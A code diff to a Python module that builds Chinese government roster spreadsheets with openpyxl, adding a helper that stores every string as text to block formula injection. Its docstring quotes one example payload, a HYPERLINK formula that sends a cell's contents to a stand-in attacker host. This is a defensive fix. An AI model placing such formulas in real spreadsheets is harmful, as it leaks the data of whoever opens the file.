@@ -2,6 +2,11 @@
 
 Every cell uses a font with Chinese glyphs (宋体, which Excel and WPS map on every
 Chinese Windows; LibreOffice substitutes an installed CJK font).
+
+Every text is stored as text, never as a formula: the values come from HR's roster and the
+plan, and a name such as `=HYPERLINK("http://evil.example/?x="&A1)` written as a formula would
+run in the office's Excel (formula injection). openpyxl takes any string starting with `=`
+for a formula; `_text` keeps it a string cell with the same visible text.
 """
 
 from __future__ import annotations
@@ -13,6 +18,7 @@ from pathlib import Path
 from typing import Any
 
 from openpyxl import Workbook
+from openpyxl.cell.cell import Cell
 from openpyxl.drawing.image import Image
 from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
 from openpyxl.worksheet.worksheet import Worksheet
@@ -24,18 +30,33 @@ HEADER_FILL = PatternFill("solid", fgColor="F0F0F0")
 WRAP = Alignment(wrap_text=True, vertical="top")
 
 
+def _text(cell: Cell, value: Any) -> None:
+    """Put `value` in `cell`; a string always as a string cell (shown as typed, never evaluated)."""
+    cell.value = value
+    if isinstance(value, str):
+        cell.data_type = "s"
+
+
+def _append(sheet: Worksheet, values: Sequence[Any]) -> int:
+    """A row at the bottom of the sheet, every string kept as text; its row number."""
+    sheet.append(list(values))
+    row = sheet.max_row
+    for cell in sheet[row]:
+        _text(cell, cell.value)
+    return row
+
+
 def _title(sheet: Worksheet, form: str, title: str, width: int) -> None:
-    sheet["A1"] = form
+    _text(sheet["A1"], form)
     sheet["A1"].font = Font(name=FONT, size=10)
-    sheet["A2"] = title
+    _text(sheet["A2"], title)
     sheet["A2"].font = Font(name=FONT, size=16, bold=True)
     sheet["A2"].alignment = Alignment(horizontal="center")
     sheet.merge_cells(start_row=2, start_column=1, end_row=2, end_column=width)
 
 
 def _row(sheet: Worksheet, values: Sequence[Any], header: bool = False) -> int:
-    sheet.append(list(values))
-    row = sheet.max_row
+    row = _append(sheet, values)
     for cell in sheet[row]:
         cell.font = Font(name=FONT, bold=header)
         cell.border = BOX
@@ -163,14 +184,15 @@ def working_group(context: dict[str, Any], out: Path) -> None:
     sheet = workbook.active
     sheet.title = "附表3"
     _title(sheet, "附表3", "全国教师管理信息系统联合工作组名单", 7)
-    sheet.append([f"设区市(高校)（公章）：{context['institution']}"])
+    _append(sheet, [f"设区市(高校)（公章）：{context['institution']}"])
     _row(sheet, ["工作组成员", "姓名", "处室名称", "职务", "办公电话", "手机", "邮箱"], header=True)
     sheet.freeze_panes = "A5"
     for r in context["rows"]:
         _row(sheet, [r["role"], r["name"], r["office"], r["duty"], r["office_phone"], "", r["email"]])
     for c in (context["contact"], context["technical_contact"]):
         if c:
-            sheet.append(
+            _append(
+                sheet,
                 [
                     f"设区市(高校){c['role']}：{c['name']}",
                     f"单位：{c['office']}",
